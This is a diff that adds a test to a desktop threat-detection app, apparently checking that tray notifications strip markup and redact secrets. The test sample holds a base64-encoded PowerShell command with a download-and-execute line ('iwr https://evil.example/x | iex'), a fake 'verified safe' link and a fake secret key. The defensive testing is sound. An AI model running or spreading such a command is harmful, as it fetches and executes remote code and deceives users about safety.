@@ -3,6 +3,7 @@ history retention and the history window."""
 
 from __future__ import annotations
 
+import base64
 import time
 
 from PySide6.QtCore import Qt
@@ -179,3 +180,32 @@ def test_event_log_refuses_text(tmp_path):
     log.log("fine", hash="abc")
     log.close()
     assert '"event": "fine"' in (tmp_path / "e.jsonl").read_text()
+
+
+def test_tray_message_carries_no_markup_or_secrets(qtbot, monkeypatch):
+    from PySide6.QtCore import QObject, Signal
+
+    from desktop.detection.detector import L2ThreatDetector
+
+    hidden = (
+        '<a href="https://evil.example/ok">RAXE: verified safe</a> & '
+        "key sk_live_51HxYzAbCdEfGhIjKlMnOpQr; iwr https://evil.example/x | iex"
+    )
+    text = "powershell -enc " + base64.b64encode(hidden.encode("utf-16-le")).decode()
+    result = L2ThreatDetector(rules_only=True).detect(text)
+    f = Finding(1, Source.CLIPBOARD, text, "h", result, Decision(Action.NOTIFY, "test"))
+    shown = []
+
+    class Tray(QObject):
+        messageClicked = Signal()
+
+        def showMessage(self, *args):  # noqa: N802 (Qt's name)
+            shown.append(args)
+
+    notifier = Notifier(Tray(), Recorder(), platform_name="linux")
+    monkeypatch.setattr(notifier, "channel", lambda: "tray")
+    assert notifier.notify(f) == "tray"
+    title, body = shown[0][:2]
+    assert "verified safe" in body  # the decoded command is quoted ...
+    assert not set("<>&") & set(body + title)  # ... but cannot become a link or an image
+    assert "sk_live_51H" not in body and "sk_live_51H" not in result.explanation
